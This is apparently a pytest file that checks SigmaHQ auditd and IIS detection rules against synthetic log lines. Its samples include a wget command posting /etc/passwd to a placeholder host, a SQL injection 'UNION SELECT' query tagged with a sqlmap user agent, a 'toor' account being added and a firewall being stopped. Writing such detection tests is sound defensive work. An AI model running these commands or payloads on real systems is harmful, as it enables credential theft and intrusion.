"""SigmaHQ's rules for auditd and for web servers match what we read of audit logs and of IIS."""

from pathlib import Path
from zoneinfo import ZoneInfo

import pytest

from detections.sigma.match import decode
from detections.sigma.rule_set import RuleSet
from detections.sigma.ruleset import load_rule_set
from ingest.reading import read_events
from tests.detections.test_corpus import unpack

SYSCALL = (
    "type=SYSCALL msg=audit(1795147201.250:1): arch=c000003e syscall={number} success=yes a0={a0} a1=0 "
    'comm="{name}" exe="/usr/bin/{name}"'
)
DMESG = SYSCALL.format(number=103, a0=5, name="dmesg")
EXECVE = "type=EXECVE msg=audit(1795147201.250:1): argc=3 "
RECORDED = SYSCALL.format(number=59, a0=8, name="arecord") + f'\n{EXECVE}a0="arecord" a1="-vv" a2="-fdat"'
STOPPED = "type=SERVICE_STOP msg=audit(1795147205.000:6): pid=1 uid=0 msg='unit=ufw comm=\"systemd\" res=success'"
ADDED = "type=ADD_USER msg=audit(1795147205.000:6): pid=1 uid=0 msg='op=add-user acct=\"toor\" res=success'"
IIS = "#Fields: date time cs-method cs-uri-stem cs-uri-query c-ip cs(User-Agent) sc-status\n2026-11-20 04:00:01 "
SCANNED = IIS + "GET /x id=%27+UNION+SELECT+1-- 203.0.113.9 sqlmap/1.8 200"
CASES = [
    ("auditd", DMESG, "Clear or Disable Kernel Ring Buffer Logs via Syslog Syscall"),
    ("auditd", RECORDED, "Audio Capture"),
    ("auditd", f'{EXECVE}a0="wget" a1="--post-file=/etc/passwd" a2="x"', "Data Exfiltration with Wget"),
    ("auditd", STOPPED, "Disable System Firewall"),
    ("auditd", ADDED, "Creation Of An User Account"),
    ("iis", SCANNED, "Suspicious User-Agents Related To Recon Tools"),
    ("iis", IIS + "GET / x~1*~1*a.aspx 203.0.113.9 - 200", "Successful IIS Shortname Fuzzing Scan"),
]
NEAR_MISSES = [
    ("auditd", SYSCALL.format(number=103, a0=2, name="dmesg")),
    ("auditd", f'{EXECVE}a0="wget" a1="-q" a2="x"'),
    ("iis", IIS + "GET / x~1*~1*a.aspx 203.0.113.9 - 404"),
]


@pytest.fixture(scope="module")
def rules(tmp_path_factory: pytest.TempPathFactory) -> RuleSet:
    folder = unpack("sigmahq-rules.tar.zst", tmp_path_factory.mktemp("rules")) / "rules"
    return load_rule_set([folder / "linux" / "auditd", folder / "web" / "webserver_generic"])


def titles(rules: RuleSet, path: Path, format_name: str) -> set[str]:
    matcher, found = rules.matcher(), set[str]()
    for parsed in read_events(path, format=format_name, timezone=ZoneInfo("UTC"), year=None):
        assert parsed.event is not None, parsed.rejection
        view = decode(parsed.event.body)
        assert view is not None
        found |= {rules.infos[index].title for index in matcher.match(parsed.event.body, view)}
    return found


@pytest.mark.parametrize(("format_name", "lines", "title"), CASES, ids=[case[2] for case in CASES])
def test_a_rule_matches_the_lines_it_is_about(
    rules: RuleSet, tmp_path: Path, format_name: str, lines: str, title: str
) -> None:
    (tmp_path / "log").write_text(lines + "\n")

    assert title in titles(rules, tmp_path / "log", format_name)


@pytest.mark.parametrize(("format_name", "lines"), NEAR_MISSES)
def test_nothing_matches_a_near_miss(rules: RuleSet, tmp_path: Path, format_name: str, lines: str) -> None:
    (tmp_path / "log").write_text(lines + "\n")

    assert titles(rules, tmp_path / "log", format_name) == set()
